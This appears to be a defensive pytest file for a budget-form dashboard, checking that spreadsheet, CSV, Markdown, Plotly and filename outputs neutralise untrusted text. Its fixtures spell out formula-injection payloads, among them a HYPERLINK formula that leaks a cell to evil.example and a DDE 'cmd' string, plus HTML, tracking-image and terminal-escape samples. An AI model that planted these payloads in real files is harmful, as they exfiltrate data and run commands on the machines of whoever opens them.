"""Text from forms is data: spreadsheet cells never run as formulas, Markdown shows as written, names print safely."""

from __future__ import annotations

import csv
import io
import zipfile

import pandas as pd
import plotly.graph_objects as go
from openpyxl import load_workbook

from dashboard.core.model import Check, Form, FundRow, Funds, Indicator
from dashboard.outputs import downloads, export
from dashboard.security.untrusted import (
    WORD_JOINER,
    display_name,
    markdown_literal,
    plotly_literal,
    spreadsheet_frame,
    spreadsheet_value,
)

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"点击")'
PAYLOADS = [HYPERLINK, "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3", "\t=1+1", "\r=1+1"]


def payload_form() -> Form:
    return Form(
        project_name=HYPERLINK,
        project_type="购置费",
        department="@SUM(A1:A9)",
        unit="+区城管局",
        year=2021,
        project_amount=1000.0,
        funds=Funds(unit_printed="元", total=FundRow(1000.0, 1000.0, 900.0, 90.0, 10.0, 9.0)),
        goal_expected="-目标",
        goal_actual="=1+1",
        indicators=[Indicator("产出指标", "数量指标", "=A1", "10", "9", 10.0, 8.0, "@SUM(1,2)")],
        total_weight=100.0,
        total_score=-5.0,
        checks=[Check("total_not_sum", "error", "=2*3", "=A1", 95.0, 94.0)],
        source_file="=cmd.pdf",
        source_pages=[1],
        id="abc-001",
    )


# --- the rule ------------------------------------------------------------------------------------------------


def test_formula_like_text_gets_an_apostrophe_numbers_stay():
    assert [spreadsheet_value(text) for text in PAYLOADS] == ["'" + text for text in PAYLOADS]
    assert spreadsheet_value("数据规划管理") == "数据规划管理"
    assert spreadsheet_value("a=b") == "a=b"  # only a leading trigger counts
    assert spreadsheet_value(-5.0) == -5.0
    assert spreadsheet_value(-3) == -3
    assert spreadsheet_value(None) is None


def test_frame_cells_and_headings_are_neutralised_numbers_kept():
    frame = pd.DataFrame({"=head": ["=1+1", "ok"], "分": [-1.5, 2.0]})
    safe = spreadsheet_frame(frame)
    assert list(safe.columns) == ["'=head", "分"]
    assert safe.iloc[:, 0].tolist() == ["'=1+1", "ok"]
    assert safe["分"].tolist() == [-1.5, 2.0]
    assert frame.iloc[0, 0] == "=1+1"  # the caller's frame is left alone


# --- every writer uses it ----------------------------------------------------------------------------------------


def test_page_csv_download_neutralises_every_payload():
    frame = pd.DataFrame({"项目名称": PAYLOADS, "总分": [-1.0] * len(PAYLOADS)})
    rows = list(csv.reader(io.StringIO(downloads.to_csv_bytes(frame).decode("utf-8-sig"), newline="")))
    assert [row[0] for row in rows[1:]] == ["'" + text for text in PAYLOADS]
    assert {row[1] for row in rows[1:]} == {"-1.0"}


def _formula_cells(data: bytes) -> int:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return sum(archive.read(name).count(b"<f>") for name in archive.namelist() if name.startswith("xl/worksheets/"))


def test_xlsx_download_has_no_formula_cells_and_text_stays_text():
    frame = pd.DataFrame({"项目名称": PAYLOADS, "总分": [-1.0] * len(PAYLOADS)})
    data = downloads.to_xlsx_bytes(frame)
    assert _formula_cells(data) == 0
    sheet = load_workbook(io.BytesIO(data)).active
    cells = [sheet.cell(row=row, column=1) for row in range(2, len(PAYLOADS) + 2)]
    assert [cell.value for cell in cells] == ["'" + text for text in PAYLOADS]
    assert {cell.data_type for cell in cells} == {"s"}
    assert sheet.cell(row=2, column=2).value == -1.0  # a number, not text


def test_one_form_workbook_has_no_formula_cells():
    data = downloads.form_workbook_bytes(payload_form())
    assert _formula_cells(data) == 0
    book = load_workbook(io.BytesIO(data))
    values = {cell.value for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None}
    assert "'" + HYPERLINK in values
    assert "'@SUM(1,2)" in values  # the reason
    assert "'=A1" in values  # the indicator name
    assert not any(isinstance(value, str) and value.startswith(("=", "@", "+")) for value in values)


def test_form_as_printed_workbook_has_no_formula_cells():
    data = downloads.forms_as_printed_bytes([payload_form()])
    assert _formula_cells(data) == 0
    book = load_workbook(io.BytesIO(data))
    values = {cell.value for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None}
    assert any(isinstance(value, str) and value.startswith("'" + HYPERLINK) for value in values)
    assert not any(isinstance(value, str) and value.startswith(("=", "@", "+")) for value in values)


def test_cli_csv_export_neutralises_form_text():
    text = export.indicators_csv([payload_form()]).decode("utf-8-sig")
    row = next(csv.DictReader(io.StringIO(text, newline="")))
    assert row["项目名称"] == "'" + HYPERLINK
    assert row["偏差原因分析及改进措施"] == "'@SUM(1,2)"
    assert row["实施单位"] == "'+区城管局"
    assert row["总分"] == "-5.0"  # a number stays a number


# --- Markdown ----------------------------------------------------------------------------------------------------


def test_markdown_literal_escapes_every_markup_character():
    assert markdown_literal("![t](http://host/track.png)") == (
        "\\!\\[t\\]\\(http\\:" + WORD_JOINER + "\\/\\/host\\/track\\.png\\)"
    )
    assert markdown_literal("**粗** :red[红] <b>") == "\\*\\*粗\\*\\* \\:" + WORD_JOINER + "red\\[红\\] \\<b\\>"
    assert markdown_literal("a -- b") == "a \\-" + WORD_JOINER + "\\- b"
    assert markdown_literal("数据规划管理（一期）") == "数据规划管理（一期）"
    assert markdown_literal(None) == ""
    assert markdown_literal(2021) == "2021"


def test_plotly_figure_texts_are_escaped_customdata_kept():
    figure = go.Figure(
        go.Bar(
            y=['<a href="http://evil.example/">单位</a>', "A&B"],
            x=[1.5, 2.0],
            customdata=["<a>", "A&B"],
            text=["<b>1</b>", "2"],
            name="<i>系列</i>",
        )
    )
    bar = plotly_literal(figure).data[0]
    assert bar.y == ('&lt;a href="http://evil.example/"&gt;单位&lt;/a&gt;', "A&amp;B")
    assert bar.text == ("&lt;b&gt;1&lt;/b&gt;", "2")
    assert bar.name == "&lt;i&gt;系列&lt;/i&gt;"
    assert bar.x == (1.5, 2.0)
    assert bar.customdata == ("<a>", "A&B")  # what a click hands back to the page


# --- file names -----------------------------------------------------------------------------------------------------


def test_display_name_escapes_control_characters_and_cuts_long_names():
    assert display_name("a\nb.pdf") == "a\\nb.pdf"
    assert display_name("x\0y.txt") == "x\\0y.txt"
    assert display_name("\x1b[31mred.pdf") == "\\x1b[31mred.pdf"
    assert display_name("evil\u202efdp.txt") == "evil\\u202efdp.txt"  # a right-to-left override
    assert display_name("数据规划管理.pdf") == "数据规划管理.pdf"
    long = "项" * 300 + ".pdf"
    assert display_name(long) == "项" * 119 + "…"
    assert len(display_name(long)) == 120


# --- characters no output carries raw (issue 24) -------------------------------------------------------------


def test_fullwidth_formula_starters_are_guarded():
    for text in ("＝1+1", "＋1", "－1", "＠SUM(A1)"):
        assert spreadsheet_value(text) == "'" + text


def test_visible_text_escapes_what_xml_and_terminals_cannot_carry():
    from dashboard.security.untrusted import visible_text

    assert visible_text("a\x07b\x1b[31m\0c\x0b\x0c\x7f\x85\u202e\u2066d") == (
        "a\\x07b\\x1b[31m\\0c\\x0b\\x0c\\x7f\\x85\\u202e\\u2066d"
    )
    assert visible_text("行一\n行二\r\t制表") == "行一\n行二\r\t制表"  # layout stays
    assert visible_text("\u200d👩\u200d💻 数据（一期）") == "\u200d👩\u200d💻 数据（一期）"  # joiners are not controls
    assert spreadsheet_value("\x1b=1+1") == "\\x1b=1+1"  # made visible, then no longer formula-like


def test_json_carriable_escapes_inside_strings_and_reads_back_the_same():
    import json

    from dashboard.security.untrusted import json_carriable

    value = {"名称": "a\x1b]0;t\x07\x7f\x85\u202e\u2069b", "n": 1}
    dumped = json_carriable(json.dumps(value, ensure_ascii=False))
    assert dumped == '{"名称": "a\\u001b]0;t\\u0007\\u007f\\u0085\\u202e\\u2069b", "n": 1}'
    assert json.loads(dumped) == value


def test_terminal_text_keeps_newline_and_tab_escapes_the_rest():
    from dashboard.security.untrusted import terminal_text

    assert terminal_text("文件\x1b]8;;http://x/\x1b\\\t说明\n\u202e下一行") == (
        "文件\\x1b]8;;http://x/\\x1b\\\t说明\n\\u202e下一行"
    )
